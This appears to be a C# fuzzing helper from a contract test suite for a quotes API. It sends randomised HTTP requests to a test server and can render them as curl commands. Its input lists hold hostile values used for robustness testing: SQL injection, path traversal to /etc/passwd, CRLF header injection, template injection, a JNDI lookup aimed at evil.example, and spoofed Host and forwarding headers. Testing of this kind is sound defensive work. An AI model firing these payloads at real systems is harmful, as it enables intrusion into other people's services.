using System.Globalization;
using System.Text;

namespace Quotes.Api.Tests.Contract;

/// <summary>A request made up by chance, partly by the document and partly against it.</summary>
public sealed record RandomRequest(
    string Method,
    string Target,
    Operation Operation,
    IReadOnlyList<(string, string)> Headers
)
{
    private static readonly string[] _methods = ["HEAD", "OPTIONS", "POST", "PUT", "DELETE", "PATCH", "TRACE", "BREW"];

    // Percent-encoded as they go over the wire.
    private static readonly string[] _nasty =
    [
        "",
        "0",
        "-1",
        "101",
        "5%00",
        "%00",
        "1e3",
        "%2B5",
        "05",
        "9999999999999999999999",
        "NaN",
        "true",
        "null",
        "undefined",
        "%27",
        "%22",
        "%27%20OR%201=1--",
        "1;DROP%20TABLE%20quote",
        "NEAR(",
        "%2A",
        "C%2B%2B",
        "%E5%AE%A2%E6%88%B7",
        "%F0%A0%AE%B7",
        "%ED%A0%80",
        "%FF%FE",
        "%C0%80",
        "%0D%0AX-Evil:%201",
        "..%2F..%2Fetc%2Fpasswd",
        "%3Cscript%3E",
        "a,b",
        "a%7Cb",
        "-a",
        "-",
        "|",
        ",",
        "a|",
        ",a",
        "--a",
        "2018-02-30",
        "2018-1-1",
        "0000-00-00",
        "9999-12-31",
        "Europe/../etc",
        "q-000000000000",
        "zzz",
        "AAAAAAAAAAAAAAAA",
        "%",
        "%G1",
        "%25",
        "{id}",
        "%E2%80%AE",
        "%22a%22%20NOT%20%22b%22",
        "a%20NEAR/0%20b",
        "text%3Aa",
        "%5Ea",
        "a%00b",
        "%7B%7B7*7%7D%7D",
        "$%7Bjndi:ldap://evil.example/a%7D",
        "%D8%AF%CC%81%CC%81%CC%81",
        "2147483648",
        "9007199254740992",
        "0x10",
        "%D9%A1%D9%A2",
        "2018-11-01T00:00:00Z",
        "UTC%2B8",
        "bWFkZS11cC1jdXJzb3I",
        "W10",
        "%EF%BB%BF",
        new('x', 300),
        string.Concat(Enumerable.Repeat("%F0%9F%98%80", 50)),
    ];

    private static readonly (string, string)[] _headers =
    [
        ("Accept", "image/png"),
        ("Accept", "text/csv"),
        ("Accept", "application/x-ndjson"),
        ("Accept", "text/plain;q=0.5, text/markdown"),
        ("Accept", "*/*;q=0"),
        ("Accept", ";;;"),
        ("Accept", "application/json;q=2"),
        ("Accept-Encoding", "br, gzip"),
        ("Accept-Encoding", "identity;q=0"),
        ("If-None-Match", "*"),
        ("If-None-Match", "W/\"x\", \"y\""),
        ("If-None-Match", "not a tag"),
        ("Origin", "https://elsewhere.example"),
        ("Range", "bytes=0-1"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("Accept-Language", "zh-Hant, en;q=0.1"),
        ("Host", "evil.example"),
        ("X-Forwarded-For", "' OR 1=1 --"),
        ("X-Forwarded-Host", "evil.example"),
        ("X-Original-URL", "/health/live"),
        ("Cookie", "a=b; $Version=1; c=\"d"),
        ("Authorization", "Bearer ../../etc/passwd"),
        ("traceparent", "00-00000000000000000000000000000000-0000000000000000-ff"),
        ("If-Modified-Since", "Mon, 99 Foo 2018 99:99:99 GMT"),
        ("If-Match", "\"nothing\""),
        ("Prefer", "return=minimal"),
        ("Accept-Charset", "gbk"),
        ("TE", "trailers, deflate;q=0.5"),
    ];

    /// <summary>The request that a random source makes next.</summary>
    public static RandomRequest Next(Random random, IReadOnlyList<Operation> operations)
    {
        var operation = Pick(random, operations);
        var path = operation.Path.Replace(
            "{id}",
            operation.Ids.Count == 0 ? "" : Pick(random, random.Next(3) == 0 ? _nasty : operation.Ids),
            StringComparison.Ordinal
        );
        if (random.Next(40) == 0)
            path += Pick(random, ["/", "/x", ".json", "//", "%2F", "%20"]);
        var method = random.Next(8) == 0 ? Pick(random, _methods) : "GET";
        var headers = Enumerable.Range(0, random.Next(3)).Select(_ => Pick(random, _headers)).DistinctBy(h => h.Item1);
        return new RandomRequest(method, path + Query(random, operation), operation, [.. headers]);
    }

    /// <summary>Sends it as it stands: HttpClient would otherwise tidy the path and the percent signs.</summary>
    public Task<HttpResponseMessage> SendAsync(Server server)
    {
        var asIs = new UriCreationOptions { DangerousDisablePathAndQueryCanonicalization = true };
        var authority = server.Address.GetLeftPart(UriPartial.Authority);
        var message = new HttpRequestMessage(new HttpMethod(Method), new Uri(authority + Target, asIs));
        foreach (var (name, value) in Headers)
            message.Headers.TryAddWithoutValidation(name, value);
        return server.Client.SendAsync(message, TestContext.Current.CancellationToken);
    }

    /// <summary>The same as a command to paste.</summary>
    public string AsCurl(Uri server)
    {
        var command = new StringBuilder($"curl -gi --path-as-is -X {Method}");
        foreach (var (name, value) in Headers)
            command.Append(CultureInfo.InvariantCulture, $" -H '{name}: {value}'");
        return command
            .Append(CultureInfo.InvariantCulture, $" '{server.GetLeftPart(UriPartial.Authority)}{Target}'")
            .ToString();
    }

    private static string Query(Random random, Operation operation)
    {
        var parts = new List<string>();
        foreach (var (name, example) in operation.Parameters)
            if (random.Next(6) == 0)
                parts.Add(
                    $"{name}={(random.Next(2) == 0 ? Uri.EscapeDataString(example ?? "") : Pick(random, _nasty))}"
                );
        if (random.Next(20) == 0)
            parts.Add(
                $"{Pick(random, ["themes", "q", "LIMIT", "limit", "%00", "", "a%3Db", "[]"])}={Pick(random, _nasty)}"
            );
        return parts.Count == 0 ? "" : "?" + string.Join('&', parts);
    }

    private static T Pick<T>(Random random, IReadOnlyList<T> values) => values[random.Next(values.Count)];
}
